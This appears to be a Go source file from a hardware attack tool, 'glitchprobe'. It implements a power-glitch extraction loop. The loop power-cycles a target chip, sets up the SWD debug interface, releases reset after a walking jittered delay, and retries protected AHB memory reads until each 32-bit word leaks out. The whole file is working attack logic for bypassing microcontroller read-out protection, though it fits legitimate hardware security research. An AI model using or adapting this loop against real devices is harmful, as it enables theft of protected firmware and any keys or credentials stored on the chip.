// Copyright (C) 2017 Obermaier Johannes
//
// This Source Code Form is subject to the terms of the MIT License.
// If a copy of the MIT License was not distributed with this file,
// you can obtain one at https://opensource.org/licenses/MIT

// Package extractor implements the per-word power-glitch attack loop: power
// cycle the target, bring up the SWD debug interface, release reset with a
// jittered delay, and attempt the protected AHB read — retrying with a
// walking delay until it succeeds or the attempt budget is exhausted.
package extractor

import (
	"time"

	"github.com/charmbracelet/log"

	"github.com/obermaierlabs/glitchprobe/internal/swd"
)

const (
	// JitterMin is the minimum delay, in milliseconds, between reset
	// release and the glitched AHB read.
	JitterMin uint16 = 20
	// JitterStep is added to the delay after every failed attempt.
	JitterStep uint16 = 1
	// JitterMax is the delay at which the walk wraps back to JitterMin.
	JitterMax uint16 = 50

	// MaxReadAttempts bounds the number of failed attempts per word.
	MaxReadAttempts = 100
)

// JitterState is the walking delay schedule, persisted across words and
// across extraction runs. Min/Step/Max default to JitterMin/JitterStep/
// JitterMax but may be overridden per instance for bench characterization
// (cmd/glitchprobe's --jitter-min/--jitter-step/--jitter-max flags); zero
// means "use the package default".
type JitterState struct {
	DelayMS        uint16
	Min, Step, Max uint16
}

// NewJitterState returns a jitter schedule at its minimum delay.
func NewJitterState() JitterState {
	return JitterState{DelayMS: JitterMin, Min: JitterMin, Step: JitterStep, Max: JitterMax}
}

// OnFailure advances the delay by Step, wrapping to Min at Max.
func (j *JitterState) OnFailure() {
	min, step, max := j.Min, j.Step, j.Max
	if min == 0 {
		min = JitterMin
	}
	if step == 0 {
		step = JitterStep
	}
	if max == 0 {
		max = JitterMax
	}
	j.DelayMS += step
	if j.DelayMS >= max {
		j.DelayMS = min
	}
}

// Stats accumulates per-run attempt counters. attempts always equals
// successes+failures after every transaction.
type Stats struct {
	Attempts  uint32
	Successes uint32
	Failures  uint32
}

// Reset zeroes the counters, called at the start of each extraction run.
func (s *Stats) Reset() {
	*s = Stats{}
}

// Session is the subset of the SWD session layer the controller drives.
// Satisfied by *swd.Bus; a fake implementation backs the controller tests.
type Session interface {
	Init() (swd.Status, uint32)
	EnableDebugIF() swd.Status
	SetAP32BitMode() (swd.Status, uint32)
	SelectAHBAP() swd.Status
	ReadAHB(addr uint32) (swd.Status, uint32)
}

// Target is the subset of power/reset/LED control the controller drives.
type Target interface {
	PowerOn()
	PowerOff()
	ResetAssert()
	ResetRelease()
	AttemptLEDOff()
	AttemptLEDOn()
}

// Extractor owns Stats and JitterState; ExtractWord advances both on every
// attempt.
type Extractor struct {
	Session Session
	Target  Target
	Stats   Stats
	Jitter  JitterState

	// Logger receives per-attempt diagnostics. A nil Logger disables
	// logging (used by tests).
	Logger *log.Logger

	// sleep is overridden in tests to avoid real wall-clock delays.
	sleep func(time.Duration)
}

// New builds an Extractor with its jitter schedule at JitterMin.
func New(session Session, target Target, logger *log.Logger) *Extractor {
	return &Extractor{
		Session: session,
		Target:  target,
		Jitter:  NewJitterState(),
		Logger:  logger,
		sleep:   time.Sleep,
	}
}

func (e *Extractor) delay(d time.Duration) {
	if e.sleep != nil {
		e.sleep(d)
		return
	}
	time.Sleep(d)
}

func (e *Extractor) logf(msg string, args ...any) {
	if e.Logger != nil {
		e.Logger.Debug(msg, args...)
	}
}

// ExtractWord attempts to read one 32-bit word at addr (rounded down to a
// 4-byte boundary), power-cycling and retrying with a jittered delay until
// it succeeds or MaxReadAttempts failures have accumulated.
func (e *Extractor) ExtractWord(addr uint32) (swd.Status, uint32) {
	addr &^= 0x03
	var status swd.Status
	var data uint32
	failed := 0

	for {
		e.Target.AttemptLEDOff()
		e.Target.PowerOn()
		e.delay(5 * time.Millisecond)

		status, _ = e.Session.Init()
		if status == swd.StatusOK {
			status = e.Session.EnableDebugIF()
		}
		if status == swd.StatusOK {
			status, _ = e.Session.SetAP32BitMode()
		}
		if status == swd.StatusOK {
			status = e.Session.SelectAHBAP()
		}
		if status == swd.StatusOK {
			e.Target.ResetRelease()
			e.delay(time.Duration(e.Jitter.DelayMS) * time.Millisecond)
			status, data = e.Session.ReadAHB(addr)
		}
		e.Target.ResetAssert()
		e.Stats.Attempts++

		if status == swd.StatusOK {
			e.Stats.Successes++
			e.Target.AttemptLEDOn()
			e.logf("word extracted", "addr", addr, "attempts", e.Stats.Attempts)
		} else {
			e.Stats.Failures++
			failed++
			e.logf("attempt failed", "addr", addr, "status", status, "jitter_ms", e.Jitter.DelayMS)
			e.Jitter.OnFailure()
		}

		e.Target.PowerOff()
		e.delay(1 * time.Millisecond)

		if status == swd.StatusOK || failed >= MaxReadAttempts {
			break
		}
	}

	return status, data
}
